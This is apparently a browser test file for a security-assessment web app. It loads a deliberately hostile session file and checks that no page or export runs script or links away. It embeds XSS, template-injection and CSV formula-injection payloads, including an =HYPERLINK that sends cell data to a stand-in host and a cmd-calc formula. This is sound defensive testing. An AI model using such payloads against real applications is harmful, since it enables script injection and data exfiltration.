// A session that somebody made to do harm, on every page and in every file that comes out of it: nothing in it runs, leads away or
// breaks a page. The pages are those that the app's routes name, so that a new one is looked at as well.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { downloaded, root, scene } from "./browser.mjs";
import { practice, practices, smm } from "./model.mjs";
import * as way from "./way.mjs";

const [FIRST, SECOND, THIRD] = practices();
const PATCHING = practice("hardening.vulnerability.patching");
const statement = (one, level, number = 0) => one.levels[level].indicators[number].id;

/** Targets that do not fit together, so that the answer to the hint about them is shown. */
const COHERENCE = JSON.parse(readFileSync(new URL("../../public/models/iot-smm.coherence.json", import.meta.url), "utf8"));
const HINT = COHERENCE.dependencies.find(({ id }) => id === "recovery-needs-detection");
const UNFIT = [[HINT.practice, 4], [HINT.needs, 0]];

/** Every field of a session that holds words, with a name of its own for each. `words` gives what stands in it. */
function session(words) {
  let count = 0;
  const fact = (on, value, more = {}) => ({ on, value, ...more, at: "2026-11-23T09:00:00Z", stamp: `eve:${(count += 1)}` });
  const here = (on, value, more = {}) => fact(on, value, { round: "r1", ...more });
  const by = { by: "p1" };
  const target = (level, field) => ({
    level, scope: "industry", origin: "practice", because: "risk", reason: words(field), decided_by: "p1", decided_on: "2026-11-20", review_on: "2027-11-20",
  });
  const answers = [
    here(statement(PATCHING, 1), { not_applicable: { reason: words("reason") } }, by),
    here(statement(PATCHING, 1, 1), { compensated: { reason: words("compensation") } }, by),
    here(statement(PATCHING, 2), "met", by),
    here(statement(PATCHING, 2), "not_met", { by: "p2" }),
  ];
  const file = {
    format: "plumbline-session",
    version: 1,
    id: "hostile",
    created: "2026-11-23T08:00:00Z",
    model: { id: smm.id, edition: smm.edition },
    system: [fact("name", words("name")), fact("includes", words("includes")), fact("excludes", words("excludes")), fact("in_use_since", words("in_use_since"))],
    people: [fact("p1", { name: words("person"), role: "business_owner" }), fact("p2", { name: words("second person"), role: "technology_owner" })],
    parts: [fact("part", { name: words("part") })],
    rounds: [fact("r1", { name: words("round") })],
    profiles: [fact("manufacturing-line", { edition: "2026-11" })],
    targets: [fact(FIRST.id, target(3, "target reason")), fact(PATCHING.id, target(2, "second target reason")), ...UNFIT.map(([on, level]) => fact(on, { level, scope: "industry", origin: "practice" }))],
    past_targets: [fact(FIRST.id, target(1, "past reason"))],
    minimums: [fact(SECOND.id, { level: 2, source: words("source of a minimum") })],
    hints: [fact("recovery-needs-detection", words("hint"))],
    indicators: [fact("own", { practice: PATCHING.id, level: 1, kind: "done", text: words("own statement"), evidence: words("own evidence") })],
    quick: [here(THIRD.id, { not_applicable: { reason: words("quick reason") } }, by), here(SECOND.id, { level: 1 }, by)],
    answers,
    practice_notes: [here(PATCHING.id, words("practice note"), by)],
    notes: [here(statement(PATCHING, 1), words("note"), by)],
    against: [here(statement(PATCHING, 2), words("against"), by)],
    evidence: [
      fact("e1", { title: words("evidence"), kind: "document", location: words("location"), author: words("author"), dated: "2024-01-01" }),
      ...["javascript:globalThis.ran=true", "data:text/html,<script>globalThis.ran=true</script>", "https://evidence.invalid/\"onclick=\"globalThis.ran=true"].map((location, index) =>
        fact(`link${index}`, { title: `Link ${index}`, kind: "test", location }),
      ),
    ],
    settlements: [here(statement(PATCHING, 2), { answer: "partly", among: answers.slice(2).map(({ stamp }) => stamp), reason: words("settlement") })],
    overrides: [here(PATCHING.id, { level: 1, reason: words("override") })],
  };
  // What a review says is counted beside the rest.
  const found = (on, value) => ({ ...fact(on, value), stamp: `eve.review:${count}` });
  file.findings = [
    ["whole", "comment"], [{ statement: statement(PATCHING, 1) }, "challenge"], [{ target: PATCHING.id }, { suggestion: { target: 3 } }],
    [{ practice: PATCHING.id }, { question: "p2" }], [{ statement: statement(PATCHING, 2) }, { suggestion: { answer: { not_applicable: { reason: words("suggested reason") } } } }],
  ].map(([about, kind], index) => found(`f${index}`, { kind, about, text: words(`finding ${index}`), round: "r1", stood: "" }));
  file.finding_replies = [found({ finding: "f0", reply: "y1" }, words("reply to a finding"))];
  file.finding_decisions = [found("f1", { declined: { reason: words("why a finding is declined") } })];
  file.evidence_uses = file.evidence.map(({ on }) => fact({ indicator: statement(PATCHING, 2), evidence: on }, true));
  file.seen = { eve: count };
  return file;
}

/** The addresses of all pages of an open session, as the routes name them: the words of `SessionPage::word`. */
const PAGES = [...readFileSync(new URL("../../src/ui/routes.rs", import.meta.url), "utf8").split("fn word(self)")[1].split("\n    }\n")[0].matchAll(/"([^"]*)"/g)]
  .map(([, word]) => (["quick", "full"].includes(word) ? `${word}/${PATCHING.id}` : word))
  .concat("", `quick/${THIRD.id}`);
assert.ok(PAGES.length >= 20);

const go = way.hop;

/** What is wrong with a page: something ran or would, a link leads elsewhere, the app stopped, words stick out of the page. */
const wrong = (page) =>
  page.evaluate(async () => {
    await new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
    const found = [];
    if (globalThis.ran !== undefined) found.push("something ran");
    if (!document.getElementById("crashed").hidden) found.push("the app stopped");
    for (const element of document.querySelectorAll("iframe, object, embed, img, script:not([src], #first-question[type='application/json']), style:not(head > style), form[action], base:not(head > base)")) found.push(element.outerHTML.slice(0, 100));
    for (const element of document.querySelectorAll("*")) {
      for (const { name } of element.attributes) if (name.startsWith("on")) found.push(`${element.tagName} ${name}`);
    }
    for (const link of document.querySelectorAll("a[href]")) {
      const { protocol, origin } = new URL(link.href);
      const isOwn = origin === location.origin;
      const isApart = link.target === "_blank" && /noopener/.test(link.rel) && /noreferrer/.test(link.rel) && link.referrerPolicy === "no-referrer";
      if (!isOwn && !(["http:", "https:"].includes(protocol) && isApart)) found.push(`a link to ${link.getAttribute("href").slice(0, 80)}`);
    }
    const over = document.documentElement.scrollWidth - document.documentElement.clientWidth;
    if (over > 1) found.push(`words stick out by ${over} px`);
    return found;
  });

/** All words of a page, also those in its fields. */
const wordsOf = (page) =>
  page.evaluate(() => [document.body.textContent, ...Array.from(document.querySelectorAll("input, textarea"), (field) => field.value)].join("\n"));

/** Opens the session from a file and looks at every page of it: the address of the session, and all words that were on the way. */
async function lookAround(page, words) {
  const read = [];
  await page.goto("./");
  await way.openFile(page, "hostile.json", JSON.stringify(session(words)));
  await page.getByRole("button", { name: "Add as a new assessment" }).waitFor();
  assert.deepEqual(await wrong(page), [], "what the file holds");
  await way.addChosen(page);
  const here = page.url().replace(/results$/, "");
  for (const path of PAGES) {
    await go(page, here + path);
    // The whole report, with its annex.
    if (path === "report") await page.getByRole("radio", { name: "Full", exact: true }).check();
    assert.deepEqual(await wrong(page), [], path);
    // What is folded away is a part of the page as well.
    await page.evaluate(async () => {
      // What is unfolded may be made only then, with something folded in it.
      for (let depth = 0; depth < 4; depth += 1) {
        for (const details of document.querySelectorAll("main details:not([open])")) details.open = true;
        for (const button of document.querySelectorAll("main button[aria-expanded=false]")) button.click();
        await new Promise((done) => requestAnimationFrame(() => setTimeout(done)));
      }
    });
    assert.deepEqual(await wrong(page), [], `${path}, unfolded`);
    read.push(await wordsOf(page));
  }
  return { here, read: read.join("\n") };
}

/** Words that want to be markup, script, style or a template. */
const MARKUP = [
  `</title></textarea></style></script><script>globalThis.ran = true</script>`,
  `"><img src=x onerror="globalThis.ran = true">`,
  `'><svg onload='globalThis.ran = true'><a href="javascript:globalThis.ran=true">x</a>`,
  `]]><!--<iframe srcdoc="<script>parent.ran = true</script>">`,
  `</p><form action="https://elsewhere.invalid/"><button>Save</button></form><base href="https://elsewhere.invalid/">`,
  "${globalThis.ran = true} {{constructor.constructor('globalThis.ran = true')()}} <% globalThis.ran = true %>",
  `"};</style><style>*{background:url(https://elsewhere.invalid/)}`,
].join(" ");

/** Words that want to be a formula, and characters that turn, hide or end words. */
const FORMULA = `=HYPERLINK("https://elsewhere.invalid/?"&A1,"x") \u0000\u0001\u0007\u001b[31m\u007f\u0085 \u202Egnp.exe\u202C \u2066\u2067\u2068 \u200B\u200D\uFEFF \u2028\u2029 a\tb\r\nc \uD83D\uDE00 \uFFFE`;

/** The cells of a table in CSV. */
function cells(csv) {
  const rows = [];
  for (const [, quoted, plain] of csv.replace(/^\uFEFF/, "").matchAll(/(?:^|,|\r?\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)) rows.push(quoted?.replaceAll('""', '"') ?? plain);
  return rows;
}

/** Every field. */
const FIELDS = [];
session((field) => FIELDS.push(field) && "");

for (const [what, words] of [
  ["markup", MARKUP],
  ["formulas, control characters and words that turn around", FORMULA],
  ["other beginnings of formulas", "@SUM(1+9)*cmd|' /C calc'!A0"],
]) {
  scene(`a session full of ${what} shows it as words on every page and in every file`, async (page, context) => {
    const said = (field) => `${field === "location" ? "javascript:globalThis.ran = true // " : ""}${words} [${field}]`;
    const { here, read } = await lookAround(page, said);
    // Otherwise nothing was looked at.
    assert.deepEqual(FIELDS.filter((field) => !read.includes(`[${field}]`)), []);

    await go(page, `${here}decisions`);
    const csv = await downloaded(page, () => page.getByRole("button", { name: "Export as CSV" }).click());
    const risky = cells(csv.text).filter((cell) => /^[=+\-@\t\r]/.test(cell));
    assert.deepEqual(risky, []);

    await go(page, `${here}report`);
    const markdown = await downloaded(page, () => page.getByRole("button", { name: "Save as Markdown" }).click());
    assert.doesNotMatch(markdown.text, /(?<!\\)<(script|img|svg|iframe|form|a|base|style)/i);
    assert.doesNotMatch(markdown.text, /(?<!\\)\]\(/);
    const html = await downloaded(page, () => page.getByRole("button", { name: "Save as HTML" }).click());
    assert.doesNotMatch(html.text, /<(script|img|iframe|form|base|a|link)\b/i);
    // Opened as whoever gets it opens it. A broken policy or a request to somewhere would fail this test.
    await context.route("**/report-from-somebody.html", (route) => route.fulfill({ contentType: "text/html", body: html.text }));
    const report = await context.newPage();
    await report.goto(new URL("report-from-somebody.html", root).href);
    await report.getByRole("heading", { level: 1 }).first().waitFor();
    assert.equal(await report.evaluate(() => globalThis.ran), undefined);
    assert.equal(await report.locator("script, img, iframe, form, base, a, [onerror], [onload], [onclick]").count(), 0);
  });
}

scene("evidence links to the web open apart, and take nothing along", { allow: /evidence\.invalid/ }, async (page, context) => {
  await context.route("https://evidence.invalid/**", (route) => route.fulfill({ contentType: "text/html", body: "<title>evidence</title>" }));
  await page.goto("./");
  await way.openFile(page, "hostile.json", JSON.stringify(session(() => "words")));
  await way.addChosen(page);
  await go(page, page.url().replace(/results$/, "evidence"));
  await page.getByText("Link 0").waitFor();
  const links = page.locator("main a[target=_blank]");
  assert.equal(await links.count(), 1);
  const [opened] = await Promise.all([context.waitForEvent("page"), links.click()]);
  await opened.waitForLoadState();
  assert.deepEqual(await opened.evaluate(() => [window.opener, document.referrer, globalThis.ran]), [null, "", undefined]);
});

/** A million characters where they are on most pages: in the name of the system, and in three more fields. */
const MOST = ["name", "includes", "reason", "compensation"];
scene(`a million characters in ${MOST.join(", ")} break no page`, { viewport: { width: 390, height: 844 } }, async (page) => {
  page.setDefaultTimeout(60_000);
  await lookAround(page, (field) => (MOST.includes(field) ? "W".repeat(1_000_000) : "words"));
});

/** Every field at once, as long as the largest file that is read allows: what is said twice on a page is there twice. */
const LONG = "W".repeat(250_000);
scene(`a quarter of a million characters in each of ${FIELDS.length} fields break no page`, { viewport: { width: 390, height: 844 }, timeout: 240_000 }, async (page) => {
  page.setDefaultTimeout(60_000);
  await lookAround(page, () => LONG);
});
